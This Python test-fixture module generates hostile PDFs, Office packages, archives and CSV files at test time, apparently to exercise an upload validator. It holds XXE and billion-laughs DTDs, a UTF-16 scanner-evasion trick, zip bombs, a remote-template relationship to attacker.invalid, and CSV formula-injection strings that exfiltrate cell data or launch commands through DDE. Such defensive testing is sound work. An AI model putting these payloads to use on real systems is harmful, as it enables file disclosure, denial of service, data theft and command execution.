"""Byte builders for the hostile files: small PDFs, images, Office packages and CSV text, made
with code at test time so that no binary blob is checked in."""

from __future__ import annotations

import csv
import io
import zipfile
from functools import cache

from docx import Document
from openpyxl import Workbook
from PIL import Image

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ORG_HEADERS = ["Legal name", "Kind", "EIN", "DUNS", "City", "Postal code", "Status"]

XXE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)


# -- PDF and images ---------------------------------------------------------------------------


def pdf(catalog_extra: bytes = b"", *, trailer_extra: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table; `catalog_extra` joins the catalog."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer_extra))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def png(size: tuple[int, int] = (8, 8)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (4, 4)).save(buffer, "GIF")
    return buffer.getvalue()


def program(magic: bytes) -> bytes:
    """The first bytes of an executable (PE or ELF) with some padding."""
    return magic + b"\x00" * 60 + b"This program cannot be run in DOS mode." + b"\x00" * 200


# -- Office packages --------------------------------------------------------------------------


@cache
def docx(*paragraphs: str) -> bytes:
    """A real Word document made by python-docx, one paragraph per argument."""
    document = Document()
    for text in paragraphs or ("Agreement {{ agreement.number }}",):
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@cache
def xlsx(rows: tuple[tuple[object, ...], ...] = ()) -> bytes:
    """A real workbook made by openpyxl with the organisation headers and the given rows."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Organisations"
    sheet.append(ORG_HEADERS)
    for row in rows or (organisation_row(1),):
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(
    data: bytes,
    change: dict[str, object] | None = None,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """The same package with members replaced (bytes, or a function of the old bytes) or added."""
    change, extra = change or {}, extra or {}
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w") as target:
        for member in source.infolist():
            content = source.read(member)
            replacement = change.get(member.filename)
            if callable(replacement):
                content = replacement(content)
            elif replacement is not None:
                content = replacement
            target.writestr(member.filename, content, zipfile.ZIP_DEFLATED)
        for name, content in extra.items():
            target.writestr(name, content, zipfile.ZIP_DEFLATED)
    return output.getvalue()


def with_doctype(declaration: bytes):
    """A change for rezip: put a DTD after the XML declaration of a part."""

    def change(xml: bytes) -> bytes:
        if xml.startswith(b"<?xml"):
            head, rest = xml.split(b"?>", 1)
            return head + b"?>" + declaration + rest
        return declaration + xml

    return change


def swap_type(old: str, new: str):
    """A change for rezip of [Content_Types].xml: declare another main content type."""
    return lambda xml: xml.replace(old.encode(), new.encode())


def utf16(xml: bytes) -> bytes:
    """The part re-encoded as UTF-16 with its DTD, so a byte-level search for ASCII misses it."""
    text = xml.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    head, rest = text.split("?>", 1)
    return (head + "?>" + XXE.decode() + rest).encode("utf-16")


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return output.getvalue()


@cache
def zeros_member(megabytes: int) -> bytes:
    """Deflated zeros compress about 1000 to 1: a few kilobytes that claim megabytes."""
    return b"\x00" * (megabytes * 1024 * 1024)


def many_members(data: bytes, count: int) -> bytes:
    return rezip(data, extra={f"customXml/extra{n}.xml": b"<a/>" for n in range(count)})


def nested_zip() -> bytes:
    inner = zip_of({"payload.txt": b"inner"})
    middle = zip_of({"inner.zip": inner})
    return zip_of({"middle.zip": middle, "readme.txt": b"a zip of zips"})


def external_relationship() -> bytes:
    """A document whose settings attach a remote template, fetched by Word on opening."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return rezip(docx(), extra={"word/_rels/settings.xml.rels": rels})


# -- CSV --------------------------------------------------------------------------------------


def organisation_row(n: int, **overrides: object) -> tuple[object, ...]:
    values: dict[str, object] = {
        "Legal name": f"Hostile Vendor {n:04d} LLC",
        "Kind": "Vendor",
        "EIN": f"{10 + n % 89:02d}-{n:07d}",
        "DUNS": f"{n:09d}",
        "City": "San José",
        "Postal code": "01234",
        "Status": "Active",
    }
    values.update(overrides)
    return tuple(values[header] for header in ORG_HEADERS)


def csv_text(rows: list[tuple[object, ...]], *, header: list[str] | None = None) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header or ORG_HEADERS)
    writer.writerows(rows)
    return buffer.getvalue()


FORMULAS = (
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=2+5",
    "\r=3+4",
)


def formula_csv() -> bytes:
    rows = [organisation_row(n, **{"Legal name": value}) for n, value in enumerate(FORMULAS, 1)]
    return csv_text(rows).encode("utf-8")


def wide_csv(columns: int) -> bytes:
    row = organisation_row(1) + tuple(f"x{n}" for n in range(columns))
    return csv_text([row]).encode("utf-8")


def huge_header_csv(columns: int) -> bytes:
    header = ORG_HEADERS + [f"c{n}" for n in range(columns)]
    return csv_text([organisation_row(1)], header=header).encode("utf-8")


def valid_org_csv() -> bytes:
    return csv_text([organisation_row(7)]).encode("utf-8")
